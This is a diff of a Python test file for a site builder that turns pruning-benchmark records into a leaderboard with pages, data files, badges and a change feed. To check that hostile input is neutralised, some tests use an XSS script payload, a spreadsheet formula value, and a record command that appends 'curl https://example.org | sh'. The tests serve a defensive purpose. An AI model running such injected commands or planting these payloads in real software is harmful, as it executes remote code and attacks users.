@@ -7,22 +7,21 @@ import subprocess
 import sys
 import urllib.request
 from collections.abc import Callable
-from dataclasses import asdict
 from html import unescape
 from pathlib import Path
 from typing import Any
+from urllib.parse import unquote
+from xml.etree import ElementTree
 
 import pytest
 
 from leaderboard.site.challenges import Challenge
 from leaderboard.site.collect import NoRecordsError, export
-from leaderboard.site.evidence import claim_lines
 from leaderboard.site.pages import SiteError, build
-from leaderboard.site.views import line
 from prunebench.judging.observation import CRIPPLED
 from prunebench.protocol import tables
 from prunebench.records.parts import Interval, Subject
-from prunebench.records.record import ClaimRecord, Record, dump
+from prunebench.records.record import ClaimRecord, Record, dump, load
 from prunebench.specs.experiment import PROTOCOL
 
 HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
@@ -35,10 +34,8 @@ def text_of(page: Path) -> str:
     return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]*>", " ", page.read_text())))
 
 
-def data_of(page: Path) -> Any:
-    found = re.search(r'<script type="application/json" id="data">(.*)</script>', page.read_text())
-    assert found
-    return json.loads(found[1])
+def page_of(stem: Path) -> str:
+    return stem.with_name(f"{stem.name}.html").read_text()
 
 
 def groups_of(site: Path) -> list[Any]:
@@ -51,29 +48,102 @@ def build_command(folder: Path, *arguments: str) -> subprocess.CompletedProcess[
     return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False, env=environment)
 
 
-def test_index_has_the_answer_for_each_tier(tmp_path: Path, make_record: Make, make_claim: MakeClaim) -> None:
-    refuted = make_record("t4.cifar10.vgg-19.80", levels={"scratch_b": 80.0})
-    control = make_claim("control-planted", claim="control", statement="Planted.", control=True)
-    build([make_record(), refuted, make_claim(), control, make_record(tier="paper")], tmp_path / "site")
+def test_index_has_the_answer_strongest_evidence_first(tmp_path: Path, make_record: Make) -> None:
+    quick = make_record("t4.strong", tier="quick", dataset=Subject(name="CIFAR-10", used="cifar10 32x32"))
+    build([make_record(), make_record("t4.low", levels={"scratch_b": 80.0}), quick], tmp_path / "site")
     text = text_of(tmp_path / "site" / "index.html")
-    assert "1 claim test 1 supported , 0 refuted , 0 inconclusive" in text
-    assert "2 rows 1 supported , 1 refuted , 0 inconclusive" in text
-    assert "digits, narrow networks: shows that the machinery works, never the paper's result" in text
-    assert text.index("Tier paper") < text.index("Tier smoke")
+    assert "2 distinct results: 1 better , 1 worse" in text
+    assert "scikit-learn's digits, small networks: shows that the machinery works, never the paper's result" in text
+    assert text.index("VGG-19 on CIFAR-10, slimming 70 %") < text.index("Small VGG (73 k parameters) on scikit-learn")
+    assert "What is compared Dense the whole network, trained for 12 epochs" in text
 
 
-def test_row_page_carries_its_record(tmp_path: Path, make_record: Make) -> None:
+def test_row_has_its_record_and_seeds_as_files(tmp_path: Path, make_record: Make) -> None:
     record = make_record(same_as=["t4.other"])
     build([record], tmp_path)
-    page = tmp_path / "rows" / "smoke" / "t4.cifar10.vgg-19.70.html"
-    assert record.title in text_of(page)
-    assert Record.model_validate(data_of(page)["record"]) == record
+    stem = tmp_path / "rows" / "smoke" / "t4.cifar10.vgg-19.70"
+    assert load(stem.with_name(f"{stem.name}.json").read_text()) == record
+    (seeds,) = re.findall(r'href="data:text/csv,([^"]*)" download="t4.cifar10.vgg-19.70.csv"', page_of(stem))
+    lines = unquote(seeds).splitlines()
+    assert lines[0] == "arm,seed,epochs,accuracy,best_accuracy,seconds,digest"
+    assert len(lines) == 1 + 6 * 3
+    assert lines[1].startswith(f"dense,0,12,{record.arms['dense'].accuracy[0]:g},")
 
 
-def test_rows_that_share_their_runs_count_as_one(tmp_path: Path, make_record: Make) -> None:
-    rows = [make_record("a", same_as=["b"], key=1), make_record("b", same_as=["a"], key=1), make_record("c")]
-    build(rows, tmp_path)
-    assert "2 of these with runs of their own, 0 more compare other arms" in text_of(tmp_path / "index.html")
+def test_all_data_stand_in_one_file_of_rows_and_one_of_verdicts(
+    tmp_path: Path, make_record: Make, make_claim: MakeClaim
+) -> None:
+    from pyarrow import parquet
+
+    record = make_record(method=Subject(name="=1+1", used=""))
+    build([record, make_record("b", tier="paper"), make_claim()], tmp_path)
+    rows = parquet.read_table(tmp_path / "data" / "rows.parquet").to_pylist()
+    assert [row["group"] for row in rows] == ["paper", "smoke"]
+    assert [row["row"] for row in rows] == ["b", record.row]
+    assert rows[1]["gap"] == pytest.approx(record.verdicts[0].difference, abs=5e-4)
+    assert rows[1]["method"] == "=1+1"
+    text = (tmp_path / "data" / "rows.csv").read_text()
+    assert ",'=1+1," in text, "a spreadsheet would run it"
+    verdicts = parquet.read_table(tmp_path / "data" / "verdicts.parquet").to_pylist()
+    assert [(one["row"], one["test"]) for one in verdicts] == [
+        ("b", ""),
+        (record.row, ""),
+        ("", "c08-scratch-b-beats-finetune"),
+    ]
+    assert {one["finding"] for one in verdicts} == {"better"}
+
+
+def test_lines_to_repeat_a_record_are_those_that_prunebench_writes(tmp_path: Path, make_record: Make) -> None:
+    good = make_record("good", command='pytest claims -k "a and b" --pb-tier smoke --pb-seeds 3')
+    bad = make_record("bad", command="pytest claims -k a; curl https://example.org | sh")
+    build([good, bad], tmp_path)
+    text = text_of(tmp_path / "rows" / "smoke" / "good.html")
+    assert "git checkout 0123456789ab python3 -m venv .venv && . .venv/bin/activate" in text
+    assert "pytest claims -k '(a and b and C08)' --pb-tier smoke --pb-seeds 3" in text
+    text = text_of(tmp_path / "rows" / "smoke" / "bad.html")
+    assert "curl" not in text
+    assert "The command in this record is none that prunebench writes" in text
+
+
+def test_methods_have_badges_and_say_what_was_never_run(tmp_path: Path, make_record: Make) -> None:
+    build([make_record()], tmp_path)
+    badge = (tmp_path / "badges" / "slimming.svg").read_text()
+    assert "prunebench slimming: from scratch: 1 better (smoke)" in badge
+    text = text_of(tmp_path / "methods" / "slimming.html")
+    assert "Liu et al. 2017" in text
+    known = sum(row.method == "slimming" for row in tables.load().rows.values())
+    missing = f"{known - 1} of the paper's {known} rows with slimming: PreResNet-164 on CIFAR-10, slimming 40 %"
+    assert f"smoke {missing}" in text
+    assert f"paper {known} of the paper's {known} rows" in text
+
+
+def test_changes_are_told_from_the_history(tmp_path: Path, make_record: Make) -> None:
+    git = ["git", "-C", str(tmp_path), "-c", "user.name=me", "-c", "user.email=me@example.org"]
+    subprocess.run([*git, "init", "-q"], check=True)
+    for levels, message in (({}, "Two rows"), ({"scratch_b": 80.0}, "Worse <b>now</b>")):
+        export([make_record("a", levels=levels), make_record("b")], tmp_path / "records")
+        subprocess.run([*git, "add", "."], check=True)
+        subprocess.run([*git, "commit", "-qm", message], check=True)
+    assert build_command(tmp_path, "--records", "records").returncode == 0
+    text = text_of(tmp_path / "site" / "changes.html")
+    assert re.search(
+        r"Worse <b>now</b> 1 record touched, commit \w+ : smoke a : supported \(\+.*\) → refuted \(-", text
+    )
+    assert re.search(
+        r"Two rows 2 records touched, commit \w+ : smoke a : new, supported .* smoke b : new, supported", text
+    )
+    feed = ElementTree.parse(tmp_path / "site" / "changes.atom").getroot()
+    atom = "{http://www.w3.org/2005/Atom}"
+    assert [one.findtext(f"{atom}title") for one in feed.iter(f"{atom}entry")] == ["Worse <b>now</b>", "Two rows"]
+    first = next(feed.iter(f"{atom}content")).text
+    assert (first or "").startswith("smoke/a: changed, supported")
+
+
+def test_old_addresses_lead_on(tmp_path: Path, make_record: Make) -> None:
+    build([make_record()], tmp_path)
+    assert 'content="0; url=index.html"' in (tmp_path / "plots.html").read_text()
+    for kept in ("index", "methods", "claims", "claims/C08", "methods/slimming", "rows/smoke/t4.cifar10.vgg-19.70"):
+        assert (tmp_path / f"{kept}.html").is_file()
 
 
 def test_rows_that_value_weights_and_architecture_come_first(tmp_path: Path, make_record: Make) -> None:
@@ -101,8 +171,8 @@ def test_second_record_of_a_row_is_left_out_wherever_it_stands(tmp_path: Path, m
     skipped = build([first, same, second], tmp_path)
     page = tmp_path / "rows" / "smoke" / f"{first.row}.html"
     assert skipped == [f"{first.row}: a second, different record of {first.row} in tier smoke; the first one is kept"]
-    assert data_of(page)["record"]["notes"] == ["first"]
-    assert groups_of(tmp_path)[0]["row_states"]["supported"] == 1
+    assert "<li>first</li>" in page.read_text()
+    assert groups_of(tmp_path)[0]["size"] == 1
 
 
 def test_text_of_a_record_is_only_ever_data(tmp_path: Path, make_record: Make, make_claim: MakeClaim) -> None:
@@ -114,7 +184,7 @@ def test_text_of_a_record_is_only_ever_data(tmp_path: Path, make_record: Make, m
     build([record.model_copy(update={"arms": arms}), claim], tmp_path / "site")
     assert [path.name for path in tmp_path.iterdir()] == ["site"]
     for page in (tmp_path / "site").rglob("*.html"):
-        assert not re.search(r"<img|<script>", page.read_text())
+        assert not re.search(r"<img src=x|<script>", page.read_text())
     for script in (tmp_path / "site" / "data").rglob("*.js"):
         assert "</script" not in script.read_text()
 
@@ -122,8 +192,9 @@ def test_text_of_a_record_is_only_ever_data(tmp_path: Path, make_record: Make, m
 def test_pages_ask_no_other_machine(tmp_path: Path, make_record: Make) -> None:
     build([make_record()], tmp_path)
     for page in tmp_path.rglob("*.html"):
-        for address in re.findall(r'(?:src|href)="([^"]*)"', page.read_text()):
-            if not address.startswith(("#", "data:")):
+        for tag, address in re.findall(r'<(\w+)[^>]*\s(?:src|href)="([^"]*)"', page.read_text()):
+            is_link = tag == "a" and address.startswith("https://")
+            if not is_link and not address.startswith(("#", "data:")):
                 assert (page.parent / address.partition("#")[0]).is_file(), address
     assert "@import" not in (tmp_path / "assets" / "style.css").read_text()
 
@@ -174,8 +245,9 @@ def test_challenges_stand_beside_their_record(tmp_path: Path, make_record: Make)
     other = Challenge("t9", "smoke", "me", "No such row.")
     skipped = build([make_record()], tmp_path, {("smoke", challenge.row): [challenge], ("smoke", "t9"): [other]})
     assert skipped == ["challenge by me: there is no record of t9 in tier smoke"]
-    (shown,) = data_of(tmp_path / "rows" / "smoke" / f"{challenge.row}.html")["challenges"]
-    assert shown["reason"] == "Too few seeds."
+    text = text_of(tmp_path / "rows" / "smoke" / f"{challenge.row}.html")
+    assert "Challenged , see below." in text
+    assert "Challenged by me: Too few seeds." in text
     assert '"challenged"' in (tmp_path / "data" / "rows" / "smoke.0.js").read_text()
 
 
@@ -208,15 +280,7 @@ def test_a_claim_test_can_be_challenged(tmp_path: Path, make_claim: MakeClaim) -
     held = {("smoke", challenge.row): [challenge] for challenge in (one, other)}
     said = build([make_claim("c08")], tmp_path / "site", held)
     assert said == ["challenge by me: there is no record of c9 in tier smoke"]
-    ((test,),) = data_of(tmp_path / "site" / "claims" / "C08.html")["tests"].values()
-    assert test["challenges"] == [asdict(one)]
-
-
-def test_progress_of_a_claim_is_that_of_its_own_rows(make_record: Make, make_claim: MakeClaim) -> None:
-    records = [make_record(name, claims=["C08"], seeds=2) for name in ("t4.a", "t4.b", "t5.c")]
-    lines = claim_lines(tables.load(), [make_claim("c08", rows=["t4.a", "t4.b"])], [line(record) for record in records])
-    (found,) = [one for one in lines if one["claim"] == "C08"]
-    assert [found[name] for name in ("rows", "wanted", "done", "planned")] == [2, 2, 2, 3]
+    assert "Challenged by me: why" in text_of(tmp_path / "site" / "claims" / "C08.html")
 
 
 def test_a_crippled_arm_is_flagged_in_the_table(tmp_path: Path, make_record: Make) -> None:
